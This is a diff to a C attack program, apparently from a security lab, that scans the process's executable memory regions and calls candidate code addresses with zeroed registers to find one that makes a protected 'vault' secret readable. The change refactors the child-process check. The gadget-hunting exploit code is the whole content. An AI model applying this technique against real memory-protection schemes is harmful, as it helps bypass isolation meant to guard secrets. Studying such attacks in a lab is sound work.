@@ -4,29 +4,29 @@
 #define _GNU_SOURCE
 #include "attack.h"
 
-#include <sys/wait.h>
-#include <unistd.h>
+
+static struct vault_cell *cell;
+
+static const volatile uint8_t *call_site(void *site)
+{
+    __asm__ volatile("xor %%eax, %%eax\n xor %%ecx, %%ecx\n xor %%edx, %%edx\n xor %%edi, %%edi\n"
+                     "xor %%esi, %%esi\n xor %%r8d, %%r8d\n xor %%r9d, %%r9d\n xor %%r10d, %%r10d\n"
+                     "xor %%r11d, %%r11d\n call *%0"
+                     ::"r"(site) : "rax", "rcx", "rdx", "rdi", "rsi", "r8", "r9", "r10", "r11", "memory");
+    return cell->secret;
+}
 
 static int try_site(const uint8_t *site)
 {
-    pid_t child = fork();
-    if (child == 0) {
-        __asm__ volatile("xor %%eax, %%eax\n xor %%ecx, %%ecx\n xor %%edx, %%edx\n xor %%edi, %%edi\n"
-                         "xor %%esi, %%esi\n xor %%r8d, %%r8d\n xor %%r9d, %%r9d\n xor %%r10d, %%r10d\n"
-                         "xor %%r11d, %%r11d\n call *%0"
-                         ::"r"(site) : "rax", "rcx", "rdx", "rdi", "rsi", "r8", "r9", "r10", "r11", "memory");
-        uint8_t copy[VAULT_SECRET_LEN];
-        memcpy(copy, vault_address(VAULT_DATA)->secret, sizeof copy);
-        _exit(vault_matches(VAULT_DATA, copy) ? 42 : 0);
-    }
-    int status;
-    waitpid(child, &status, 0);
-    return WIFEXITED(status) && WEXITSTATUS(status) == 42;
+    uint8_t got[VAULT_SECRET_LEN];
+    int how;
+    return read_in_child(call_site, (void *)site, got, &how) && vault_matches(VAULT_DATA, got);
 }
 
 int main(void)
 {
     vault_open();
+    cell = vault_address(VAULT_DATA);
     FILE *maps = fopen("/proc/self/maps", "r");
     char line[512];
     int sites = 0, opened = 0;
